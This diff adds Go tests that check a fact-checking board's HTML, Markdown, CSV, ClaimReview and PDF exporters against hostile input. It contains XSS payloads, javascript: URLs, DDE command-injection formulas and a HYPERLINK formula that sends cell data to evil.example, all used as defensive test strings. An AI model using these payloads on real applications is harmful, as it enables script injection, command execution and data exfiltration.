@@ -1,0 +1,276 @@
+package report
+
+import (
+	"bytes"
+	"image"
+	"image/color"
+	"image/png"
+	"strings"
+	"testing"
+	"time"
+
+	"evidenceboard/app"
+)
+
+// testPNG is a small PNG picture, standing in for a board image.
+func testPNG(tb testing.TB) []byte {
+	tb.Helper()
+	img := image.NewNRGBA(image.Rect(0, 0, 64, 40))
+	for y := 0; y < 40; y++ {
+		for x := 0; x < 64; x++ {
+			img.Set(x, y, color.NRGBA{uint8(4 * x), uint8(6 * y), 160, 255})
+		}
+	}
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, img); err != nil {
+		tb.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// hostileDoc is a small valid board with the given strings in every text
+// field: titles, statements, quotes, names, notes, history and link notes,
+// locations and urls. An empty title or required text is replaced, so
+// that the board stays valid.
+func hostileDoc(title, statement, quote, name, notes, url string) *app.Document {
+	or := func(s, def string) string {
+		if strings.TrimSpace(s) == "" {
+			return def
+		}
+		return s
+	}
+	at := time.Date(2018, 10, 4, 9, 0, 0, 0, time.UTC)
+	return &app.Document{
+		Format: app.FormatName, Version: app.FormatVersion,
+		Board: app.Board{
+			Title: or(title, "Board"), Description: notes, Created: at, Updated: at,
+			URL: url, Reviewer: &app.Reviewer{Name: name, URL: url},
+		},
+		Sources: []app.Source{
+			{ID: "s1", Title: or(title, "Source"), Publisher: name, Author: name, URL: url, Published: "2018-10-04", Retrieved: "2018-10-05T10:00:00Z", Notes: notes},
+			{ID: "s2", Title: or(statement, "Source two"), URL: "javascript:alert(1)", Notes: quote},
+		},
+		Parties: []app.Party{
+			{ID: "p1", Name: or(name, "Party"), Kind: app.PartyPerson, Notes: notes},
+			{ID: "p2", Name: or(title, "Party two"), Kind: app.PartyOrganisation, Notes: statement},
+		},
+		Claims: []app.Claim{
+			{ID: "c1", Statement: or(statement, "Claim"), Status: app.StatusDenied, Notes: notes, History: []app.StatusChange{
+				{Status: app.StatusAlleged, At: at, Note: notes},
+				{Status: app.StatusDenied, At: at.Add(time.Hour), Note: quote},
+			}},
+			{ID: "c2", Statement: or(quote, "Claim two"), Status: app.StatusAlleged},
+			{ID: "c3", Statement: or(name, "Claim three"), Status: app.StatusUnconfirmed, History: []app.StatusChange{
+				{Status: app.StatusUnconfirmed, At: at, Note: name},
+			}},
+		},
+		Quotes: []app.Quote{
+			{ID: "q1", Text: or(quote, "Quote"), Speaker: "p1", Source: "s1", Said: "2018-10-04", Location: notes, Notes: notes},
+			{ID: "link-1", Text: or(statement, "Quote two"), Speaker: "p2", Source: "s2", Said: "2018-10-04T12:00:00Z", Location: name},
+			{ID: "q3", Text: or(notes, "Quote three"), Source: "s1"},
+		},
+		Links: []app.Link{
+			{From: "q1", To: "c1", Relation: app.RelDenies, Note: notes},
+			{From: "link-1", To: "c1", Relation: app.RelSupports, Note: quote},
+			{From: "link-1", To: "c2", Relation: app.RelContradicts},
+			{From: "q1", To: "c2", Relation: app.RelMentions},
+			{From: "c1", To: "p2", Relation: app.RelMadeBy},
+			{From: "c1", To: "p1", Relation: app.RelAbout, Note: name},
+			{From: "q1", To: "p2", Relation: app.RelMentions},
+			{From: "p1", To: "p2", Relation: app.RelSpeaksFor, Note: notes},
+		},
+		Layout: []app.Position{{Item: "c1", X: 400.4, Y: 120.6}, {Item: "q1", X: -80, Y: 120}},
+	}
+}
+
+// hostile are strings that have broken reports elsewhere.
+var hostile = []string{
+	"<script>alert(1)</script>",
+	"</title><script>alert('x')</script>",
+	"\"><img src=x onerror=alert(1)>",
+	"javascript:alert(1)",
+	"JaVaScRiPt:alert(document.cookie)",
+	" javascript:alert(1)",
+	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	"+cmd|' /C calc'!A0",
+	"-2+3",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"\t=1+1",
+	"\r=1+1",
+	"# heading\n- item\n1. numbered\n> quote\n```\ncode\n```\n    indented\n===\n---",
+	"[link](javascript:alert(1)) ![img](http://evil.example/x.png) <http://evil.example>",
+	"*bold* _em_ `code` ~~strike~~ | a | b |\n|---|---|",
+	"line one\r\nline two\rline three\n\n\nline four\\",
+	"https://example.com/a b)c(d)<e>\"f'g\\h",
+	"mailto:someone@example.com",
+	"http://[::1]:80/?q=1&r=2#frag",
+	"&lt;script&gt; &amp; &#60;script&#62; &#x3C;",
+	"Ελληνικά, Русский, 中文, العربية, עברית, 🙂🚀, e\u0301, \u202Eevil\u202C, \u200B",
+	"\x00\x01\x02\x1b[31mred\x7f\u0085\u2028\u2029",
+	"\xff\xfe invalid \xc3\x28 utf-8",
+	"{{.Title}} {{template \"x\"}} ${x} %s %v %!",
+	"]]></x><!-- --> <![CDATA[ x ]]> <?xml?>",
+	"\uFEFF\uFFFD\uFFFF",
+	strings.Repeat("long ", 2000),
+	strings.Repeat("中", 300),
+	"",
+	" ",
+}
+
+func TestHostileStrings(t *testing.T) {
+	for i, s := range hostile {
+		doc := hostileDoc(s, s, s, s, s, s)
+		checkAll(t, doc, Options{Generated: goldenTime})
+		if t.Failed() {
+			t.Fatalf("hostile string %d: %q", i, s)
+		}
+	}
+	// Every field at once, each a different string.
+	n := len(hostile)
+	for i := range hostile {
+		doc := hostileDoc(hostile[i], hostile[(i+1)%n], hostile[(i+2)%n], hostile[(i+3)%n], hostile[(i+4)%n], hostile[(i+5)%n])
+		checkAll(t, doc, Options{Generated: goldenTime, BoardImage: testPNG(t)})
+		if t.Failed() {
+			t.Fatalf("hostile strings from %d", i)
+		}
+	}
+}
+
+// TestHostileOutput checks how some hostile strings come out.
+func TestHostileOutput(t *testing.T) {
+	doc := hostileDoc("<script>alert(1)</script>", "# not a heading\n- not a list\n1. not a list", "q", "=cmd", "notes", "javascript:alert(1)")
+	htmlOut, _ := render(t, "html", doc, Options{})
+	if !bytes.Contains(htmlOut, []byte("&lt;script&gt;alert(1)&lt;/script&gt;")) {
+		t.Error("html: the title is not escaped as text")
+	}
+	if bytes.Contains(bytes.ToLower(htmlOut), []byte(`href="javascript`)) {
+		t.Error("html: a javascript: address is a link")
+	}
+	if !bytes.Contains(htmlOut, []byte("javascript:alert(1)")) {
+		t.Error("html: the javascript: address is not shown as text")
+	}
+	md, _ := render(t, "md", doc, Options{})
+	for _, line := range strings.Split(string(md), "\n") {
+		for _, bad := range []string{"- not", "1. not", "# not"} {
+			if strings.HasPrefix(strings.TrimLeft(line, " "), bad) {
+				t.Errorf("md: a line break in the board's text starts a block: %q", line)
+			}
+		}
+	}
+	if !bytes.Contains(md, []byte("&lt;script&gt;alert\\(1\\)&lt;/script&gt;")) {
+		t.Errorf("md: the title is not escaped")
+	}
+	if bytes.Contains(md, []byte("](javascript")) {
+		t.Error("md: a javascript: address is a link")
+	}
+	csvOut, _ := render(t, "csv", doc, Options{})
+	if !bytes.Contains(csvOut, []byte(",'=cmd,")) {
+		t.Errorf("csv: the speaker =cmd is not neutralised")
+	}
+	cr, warns := render(t, "claimreview", doc, Options{})
+	if bytes.Contains(cr, []byte("javascript")) {
+		t.Error("claimreview: a javascript: address is in the JSON-LD")
+	}
+	if len(warns) != 3 || !strings.Contains(warns[0], "reviewer address") || !strings.Contains(warns[1], "board's url") || !strings.Contains(warns[2], "1 claim has no dated history") {
+		t.Errorf("claimreview: warnings %q, want three (reviewer url, board url, undated claim)", warns)
+	}
+}
+
+func TestClaimReviewWarnings(t *testing.T) {
+	doc := sampleDoc(t)
+	_, warns := render(t, "claimreview", doc, Options{})
+	if len(warns) != 2 || !strings.Contains(warns[0], "no reviewer") || !strings.Contains(warns[1], "url") {
+		t.Errorf("warnings %q, want one for the reviewer and one for the url", warns)
+	}
+	doc.Board.URL = "https://factcheck.example/big-hack"
+	doc.Board.Reviewer = &app.Reviewer{Name: "Example Fact Check", URL: "https://factcheck.example/"}
+	out, warns := render(t, "claimreview", doc, Options{})
+	if len(warns) != 0 {
+		t.Errorf("warnings %q, want none", warns)
+	}
+	for _, want := range []string{`"url": "https://factcheck.example/big-hack"`, `"name": "Example Fact Check"`, `"@type": "Organization"`} {
+		if !bytes.Contains(out, []byte(want)) {
+			t.Errorf("no %s in %s", want, out[:400])
+		}
+	}
+	doc.Board.Reviewer.URL = ""
+	if _, warns = render(t, "claimreview", doc, Options{}); len(warns) != 1 {
+		t.Errorf("warnings %q, want one for the reviewer's url", warns)
+	}
+}
+
+func TestMarkdownText(t *testing.T) {
+	for in, want := range map[string]string{
+		"plain words":                        "plain words",
+		"1. one\n- two\n  # three\n\n> four": `1\. one\` + "\n  " + `\- two\` + "\n  " + `\# three\` + "\n  " + `&gt; four`,
+		"<b>&amp;</b>":                       "&lt;b&gt;&amp;amp;&lt;/b&gt;",
+		"a\\b*c*_d_`e`":                      `a\\b\*c\*\_d\_\` + "`e\\`",
+		"=== \n---":                          `\=\=\= \` + "\n  " + `\-\-\-`,
+	} {
+		if got := mdText(in, "  "); got != want {
+			t.Errorf("mdText(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if got := mdDest("https://x.example/a b(c)<d>\\e\"é"); got != "https://x.example/a%20b%28c%29%3Cd%3E%5Ce%22%C3%A9" {
+		t.Errorf("mdDest = %q", got)
+	}
+}
+
+func TestSafeURL(t *testing.T) {
+	for u, ok := range map[string]bool{
+		"https://example.com/x":     true,
+		"HTTP://EXAMPLE.COM":        true,
+		"mailto:desk@example.com":   true,
+		"javascript:alert(1)":       false,
+		" https://example.com":      false,
+		"https://exa mple.com":      false,
+		"https:///nohost":           false,
+		"data:image/png;base64,AAA": false,
+		"ftp://example.com":         false,
+		"//example.com":             false,
+		"https://example.com/\n":    false,
+		"mailto:":                   false,
+		"":                          false,
+	} {
+		if got := safeURL(u) != ""; got != ok {
+			t.Errorf("safeURL(%q) = %v, want %v", u, got, ok)
+		}
+	}
+}
+
+func TestPDFString(t *testing.T) {
+	g, err := pdfCover()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for in, want := range map[string]string{
+		"Plain, Ελληνικά, Русский — “quotes” é": "Plain, Ελληνικά, Русский — “quotes” é",
+		"中文 and 中":             "[U+4E2D U+6587] and [U+4E2D]",
+		"🙂":                    "[U+1F642]",
+		"a\tb\r\nc\rd":         "a b\nc\nd",
+		"\x01":                 "[U+0001]",
+		strings.Repeat("中", 8): "[U+4E2D U+4E2D U+4E2D U+4E2D U+4E2D U+4E2D +2 more]",
+		"שלום":                 "[U+05E9 U+05DC U+05D5 U+05DD]",
+	} {
+		if got, _ := pdfString(g, in); got != want {
+			t.Errorf("pdfString(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// FuzzExporters runs every exporter on a small valid board with fuzzed
+// strings in every text field and checks that none panics, that the HTML
+// has no script and no javascript: link and parses, that the CSV parses
+// with the right rows and no formula cell, that the Markdown has no raw
+// HTML, and that the JSON outputs are valid (see checkAll).
+func FuzzExporters(f *testing.F) {
+	f.Add("The Big Hack", "Apple found chips.", "we never found", "Apple", "notes", "https://example.com/a")
+	f.Add("<script>alert(1)</script>", "# heading\n- item", "=1+1", "@cmd", "\r\n\t", "javascript:alert(1)")
+	f.Add("Ελληνικά Русский", "中文 🙂", "قال", "עברית", "\x00\xff", "mailto:x@example.com")
+	f.Add("[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "\"quoted\"", "-2+3", "+cmd", "https://x.example/a b)")
+	f.Fuzz(func(t *testing.T, title, statement, quote, name, notes, url string) {
+		doc := hostileDoc(title, statement, quote, name, notes, url)
+		checkAll(t, doc, Options{Generated: goldenTime})
+	})
+}
